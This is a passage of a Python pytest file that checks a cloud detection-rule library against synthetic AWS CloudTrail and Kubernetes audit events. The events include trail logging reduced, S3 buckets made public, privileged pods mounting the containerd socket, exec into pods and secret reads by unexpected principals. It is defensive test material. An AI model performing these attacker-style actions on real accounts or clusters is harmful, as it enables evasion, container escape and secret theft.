        set(),
    ),
    (
        "UpdateTrail drops global service events",
        lambda: ct(
            "cloudtrail.amazonaws.com",
            "UpdateTrail",
            {"name": "t", "includeGlobalServiceEvents": False},
        ),
        {"AWS Trail Coverage Reduced"},
    ),
    (
        "UpdateTrail becomes single-region",
        lambda: ct(
            "cloudtrail.amazonaws.com", "UpdateTrail", {"name": "t", "isMultiRegionTrail": False}
        ),
        {"AWS Trail Coverage Reduced"},
    ),
    (
        "UpdateTrail enables validation",
        lambda: ct(
            "cloudtrail.amazonaws.com",
            "UpdateTrail",
            {"name": "t", "enableLogFileValidation": True},
        ),
        set(),
    ),
    (
        "PutEventSelectors without management events",
        lambda: ct(
            "cloudtrail.amazonaws.com",
            "PutEventSelectors",
            {
                "trailName": "t",
                "eventSelectors": [
                    {
                        "readWriteType": "All",
                        "includeManagementEvents": False,
                        "dataResources": [],
                        "excludeManagementEventSources": [],
                    }
                ],
            },
        ),
        {"AWS Trail Coverage Reduced"},
    ),
    (
        "SG open to ::/0",
        lambda: sg_ingress("cidrIpv6", "::/0"),
        {"Security Group Ingress Opened to the Internet"},
    ),
    ("SG open to a private range", lambda: sg_ingress("cidrIp", "10.0.0.0/16"), set()),
    (
        "allowlisted public ALB group",
        lambda: sg_ingress("cidrIp", "0.0.0.0/0", group="sg-0c4e2a19f7b3d8e51"),
        set(),
    ),
    (
        "bucket ACL for AllUsers",
        lambda: put_acl(
            {
                "AccessControlPolicy": {
                    "AccessControlList": {
                        "Grant": [
                            {
                                "Grantee": {
                                    "xsi:type": "Group",
                                    "URI": "http://acs.amazonaws.com/groups/global/AllUsers",
                                },
                                "Permission": "READ",
                            }
                        ]
                    }
                }
            }
        ),
        {"S3 Bucket Policy or ACL Grants Public Access"},
    ),
    (
        "bucket canned ACL public-read",
        lambda: put_acl({"x-amz-acl": ["public-read"]}),
        {"S3 Bucket Policy or ACL Grants Public Access"},
    ),
    ("bucket canned ACL private", lambda: put_acl({"x-amz-acl": ["private"]}), set()),
    (
        "bucket policy for AWS *",
        lambda: ct(
            "s3.amazonaws.com",
            "PutBucketPolicy",
            {
                "bucketName": "b",
                "bucketPolicy": {
                    "Statement": [
                        {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "s3:GetObject"}
                    ]
                },
            },
        ),
        {"S3 Bucket Policy or ACL Grants Public Access"},
    ),
    ("console sign-in with MFA", lambda: console("Yes"), set()),
    ("federated console sign-in without MFA", lambda: console("No", ROLE), set()),
    ("failed console sign-in without MFA", lambda: console("No", result="Failure"), set()),
    (
        "root API call",
        lambda: ct("iam.amazonaws.com", "CreateUser", {"userName": "x"}, userIdentity=ROOT_ID),
        {"AWS Root Account Used"},
    ),
    (
        "failed root API call",
        lambda: ct(
            "iam.amazonaws.com",
            "CreateUser",
            {"userName": "x"},
            userIdentity=ROOT_ID,
            errorCode="AccessDenied",
        ),
        set(),
    ),
    (
        "role creates a key for a user",
        lambda: ct("iam.amazonaws.com", "CreateAccessKey", {"userName": "bob"}, userIdentity=ROLE),
        {"IAM Access Key Created for Another User"},
    ),
    (
        "user rotates own key by name",
        lambda: ct("iam.amazonaws.com", "CreateAccessKey", {"userName": "alice"}),
        set(),
    ),
    (
        "user rotates own key implicitly",
        lambda: ct("iam.amazonaws.com", "CreateAccessKey", None),
        set(),
    ),
    # --- Kubernetes audit: the shared fixtures
    (
        "fixture privileged pod with host mounts",
        lambda: fixture("k8s_audit/pod_create_privileged.json"),
        {
            "Privileged Container Requested in Pod",
            "Pod Created with Host Namespace Access",
            "Pod Mounts Sensitive Host Path",
        },
    ),
    ("fixture exec", lambda: fixture("k8s_audit/exec_pod.json"), {"Exec or Attach into Pod"}),
    (
        "fixture cluster-admin binding",
        lambda: fixture("k8s_audit/clusterrolebinding_cluster_admin.json"),
        {"Binding to cluster-admin Created"},
    ),
    (
        "fixture secret get by a CI service account",
        lambda: fixture("k8s_audit/secret_get.json"),
        {"Secret Read by Unexpected Principal"},
    ),
    (
        "fixture anonymous secret list",
        lambda: fixture("k8s_audit/anonymous_request.json"),
        {"Secret Read by Unexpected Principal"},
    ),
    ("fixture configmap with keys", lambda: fixture("k8s_audit/configmap_aws_keys.json"), set()),
    ("fixture event list", lambda: fixture_events("k8s_audit/eventlist.json"), set()),
    # --- Kubernetes audit: variants
    (
        "hostIPC pod",
        lambda: pod({"hostIPC": True, "containers": [container()]}),
        {"Pod Created with Host Namespace Access"},
    ),
    (
        "privileged init container",
        lambda: pod({"initContainers": [container(privileged=True)], "containers": [container()]}),
        {"Privileged Container Requested in Pod"},
    ),
    (
        "privileged ephemeral container added by kubectl debug",
        lambda: ka(
            "patch",
            "/api/v1/namespaces/default/pods/web/ephemeralcontainers",
            {
                "resource": "pods",
                "namespace": "default",
                "name": "web",
                "apiVersion": "v1",
                "subresource": "ephemeralcontainers",
            },
            {
                "spec": {
                    "ephemeralContainers": [
                        {
                            "name": "debugger-x",
                            "image": "docker.io/library/busybox:1.36",
                            "securityContext": {"privileged": True},
                        }
                    ]
                }
            },
            responseStatus={"metadata": {}, "code": 200},
        ),
        {"Privileged Container Requested in Pod"},
    ),
    (
        "kubelet socket hostPath",
        lambda: pod(
            {
                "containers": [container()],
                "volumes": [{"name": "s", "hostPath": {"path": "/run/containerd/containerd.sock"}}],
            }
        ),
        {"Pod Mounts Sensitive Host Path"},
    ),
    (
        "harmless hostPath",
        lambda: pod(
            {
                "containers": [container()],
                "volumes": [{"name": "s", "hostPath": {"path": "/var/lib/app-cache"}}],
            }
        ),
        set(),
    ),
    (
        "forbidden privileged pod",
        lambda: pod(
            {"containers": [container(privileged=True)]},
            responseStatus={"metadata": {}, "code": 403},
        ),
        set(),
    ),
    (
        "node-agent pod made of allowlisted images",
        lambda: pod(
            {
                "hostNetwork": True,
                "containers": [
                    container(
                        "602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/kube-proxy:v1.29.3",
                        privileged=True,
                    )
                ],
                "volumes": [{"name": "l", "hostPath": {"path": "/var/log"}}],
            },
            ns="kube-system",
            user={
                "username": "system:serviceaccount:kube-system:daemon-set-controller",
                "groups": ["system:serviceaccounts"],
            },
        ),
        set(),
    ),
    (
        "pod in kube-system by a developer",
        lambda: pod({"containers": [container()]}, ns="kube-system"),
        {"Pod Created in kube-system by Unexpected Principal"},
    ),
    (
        "mirror pod in kube-system by a kubelet",
        lambda: pod(
            {"containers": [container()]},
            ns="kube-system",
            user={
                "username": "system:node:ip-10-0-1-1.eu-west-1.compute.internal",
                "groups": ["system:nodes"],
            },
        ),
        set(),
    ),
    (
        "attach",
        lambda: exec_like("attach", "create", "ResponseStarted"),
        {"Exec or Attach into Pod"},
    ),
    (
        "websocket exec (GET)",
        lambda: exec_like("exec", "get", "ResponseStarted"),
        {"Exec or Attach into Pod"},
    ),
    ("exec stream end", lambda: exec_like("exec", "create", "ResponseComplete"), set()),
    (
        "allowlisted e2e runner exec",
        lambda: exec_like(
            "exec", "create", "ResponseStarted", user="system:serviceaccount:ci:e2e-runner"
        ),
        set(),
    ),
    (
        "rolebinding to admin",
        lambda: binding("rolebindings", "admin", ns="shop"),
        {"Binding to cluster-admin Created"},
    ),
    ("rolebinding to view", lambda: binding("rolebindings", "view", ns="shop"), set()),
    (
        "secret read by cert-manager",
        lambda: secret_read("system:serviceaccount:cert-manager:cert-manager"),
        set(),
    ),
    (
        "secret read by a kubelet",
        lambda: secret_read("system:node:ip-10-0-1-1.eu-west-1.compute.internal"),
        set(),
    ),
    (
        "secret watch by a developer",
        lambda: secret_read("dev-bob", verb="watch"),
        {"Secret Read by Unexpected Principal"},
    ),
    ("forbidden secret read", lambda: secret_read("dev-bob", code=403), set()),
]


@pytest.mark.parametrize("case", DEDICATED, ids=[c[0] for c in DEDICATED])
def test_dedicated_event(lib: Engine, case: tuple[str, Callable[[], Any], set[str]]) -> None:
    _, make, expected = case
    made = make()
    evs = made if isinstance(made, list) else [made]
    got: set[str] = set()
    for ev in evs:
        got |= fired(lib, ev)
    assert got == expected
    assert got <= set(library_rules())
